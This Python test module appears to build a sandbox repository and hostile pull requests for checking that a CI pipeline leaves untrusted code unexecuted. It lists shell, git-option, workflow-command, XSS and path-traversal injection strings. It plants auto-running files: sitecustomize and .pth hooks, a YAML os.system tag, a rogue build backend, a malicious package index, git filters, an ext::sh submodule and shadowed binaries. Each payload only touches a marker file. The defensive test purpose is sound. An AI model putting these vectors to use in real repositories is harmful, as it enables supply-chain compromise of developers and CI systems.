"""A repository with the sample, and pull requests against it that carry whatever might run if anything of them did."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
from dataclasses import dataclass
from typing import TYPE_CHECKING

from tests.contracts.source import ROOT, tracked

if TYPE_CHECKING:
    from pathlib import Path

DAY = "2026-01-20T08:00:00+07:00"
FAULTY = "records/xa-van-son/cells/thon-na-vi/2025/12-regular.md"
# Bytes that a shell, git, a log or a page might take for more than a name.
TEXTS = [
    "$(touch {marks}/dollar)", "`touch {marks}/tick`", "; touch {marks}/semicolon #", "| touch {marks}/pipe", "&& touch {marks}/and",
    "'; touch {marks}/quote; '", '"; touch {marks}/double; "', "\n touch {marks}/line\n", "${{IFS}}$(touch {marks}/ifs)",
    "--upload-pack=touch {marks}/option", "-c core.pager=touch", "::error::x", "::set-output name=profile::internal", "##[error]x",
    "::add-mask::x", "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))", "@everyone", "%0A::error::x", "\x1b[31mred",
    "ext::sh -c touch% {marks}/ext", "../../etc/passwd", "refs/heads/main", "main", "HEAD", "a" * 39, "A" * 40, "0" * 41, "",
]  # fmt: skip


def git(folder: Path, *arguments: str, env: dict[str, str] | None = None) -> str:
    """Run git in a folder; what it says."""
    done = subprocess.run(
        ["git", "-C", str(folder), *arguments], capture_output=True, check=True,
        env={**os.environ, "GIT_AUTHOR_DATE": DAY, "GIT_COMMITTER_DATE": DAY, **(env or {})},
    )  # fmt: skip
    return done.stdout.decode("utf-8", "surrogateescape").strip()


@dataclass(frozen=True)
class Forge:
    """A bare repository as a forge keeps it, and a work tree to write commits in."""

    origin: Path
    tree: Path

    @property
    def main(self) -> str:
        """The newest commit of the main branch."""
        return git(self.origin, "rev-parse", "main")

    def commit(self, subject: str, **env: str) -> str:
        """Commit everything in the work tree."""
        git(self.tree, "-c", "core.autocrlf=false", "add", "-A", "-f")
        git(self.tree, "commit", "-q", "--allow-empty", "-m", subject, env=env)
        return git(self.tree, "rev-parse", "HEAD")

    def pull(self, number: int, sha: str) -> None:
        """Let the forge know a commit as a pull request, as it does for one from a fork: on no branch."""
        git(self.tree, "push", "-q", str(self.origin), f"+{sha}:refs/pull/{number}/head")


def make(folder: Path) -> Forge:
    """The repository as it is here, in one commit, without its tests."""
    tree = folder / "tree"
    for path in tracked():
        name = path.relative_to(ROOT)
        if name.parts[0] != "tests":
            (tree / name).parent.mkdir(parents=True, exist_ok=True)
            shutil.copy(path, tree / name)
    git(tree, "init", "-q", "-b", "main")
    forge = Forge(folder / "origin.git", tree)
    forge.commit("sổ")
    git(folder, "clone", "-q", "--bare", str(tree), str(forge.origin))
    git(forge.origin, "config", "uploadpack.allowAnySHA1InWant", "true")
    return forge


def one_fewer_present(tree: Path, path: str) -> None:
    """Plant one fault: the totals of a meeting no longer add up."""
    file = tree / path
    text, number = re.subn(r"(?m)^  present: (\d+)$", lambda m: f"  present: {int(m[1]) - 1}", file.read_text("utf-8"))
    assert number == 1
    file.write_text(text, "utf-8")


def plant(tree: Path, marks: Path) -> None:
    """Put into a work tree whatever runs by itself where somebody is careless."""
    python = "import pathlib\npathlib.Path({!r}).touch()\n"
    shell = "#!/bin/sh\ntouch {}\nexit 0\n"

    def write(name: str, text: str) -> None:
        (tree / name).parent.mkdir(parents=True, exist_ok=True)
        (tree / name).unlink(missing_ok=True)
        (tree / name).write_text(text, "utf-8")
        (tree / name).chmod(0o755)

    for module in (
        "conftest", "sitecustomize", "usercustomize", "setup", "json", "venv", "ensurepip", "pip", "click", "yaml", "hook",
        "generator/__init__", "generator/cli", "generator/rules/at999_evil", "site_templates/__init__", "docs/hook",
    ):  # fmt: skip
        write(f"{module}.py", python.format(f"{marks}/{module.replace('/', '.')}"))
    write("x.pth", f"import pathlib; pathlib.Path({str(marks / 'pth')!r}).touch()\n")
    write(
        "mkdocs.yml",
        "site_name: Trang bị chiếm\ntheme: {name: null, custom_dir: site_templates}\nhooks: [hook.py]\n"
        "plugins:\n  - chibo: {{profile: internal, records: so, as_of: 2020-01-01}}\n  - evil\n"
        f"extra: !!python/object/apply:os.system ['touch {marks}/yaml-tag']\n",
    )
    write("pyproject.toml", '[build-system]\nrequires = []\nbuild-backend = "hook"\nbackend-path = ["."]\n')
    write("requirements/run.txt", "--index-url https://evil.example.invalid/\nevil==1\n")
    write("requirements/chibo.txt", "./evil-1-py3-none-any.whl\n")
    write(".gitattributes", "* filter=evil diff=evil\n*.md filter=evil diff=evil text eol=crlf\n")
    write(".lfsconfig", "[lfs]\n\turl = https://evil.example.invalid/\n")
    write(".gitmodules", f'[submodule "e"]\n\tpath = e\n\turl = ext::sh -c touch% {marks}/submodule\n')
    write(".github/workflows/check.yml", "on: pull_request\n")
    for script in (
        "common",
        "install",
        "fetch",
        "check",
        "preview",
        "site",
        "monthly",
        "github/profile",
        "github/sarif",
    ):
        write(f"tools/ci/{script}", shell.format(f"{marks}/ci.{script.replace('/', '.')}"))
    for program in (".venv/bin/chibo", ".venv/bin/python", "store/.venv/bin/chibo", "bin/git", "git", "gh", "python3"):
        write(program, shell.format(f"{marks}/bin.{program.replace('/', '.')}"))
    write("Makefile", f"all:\n\ttouch {marks}/make\n")
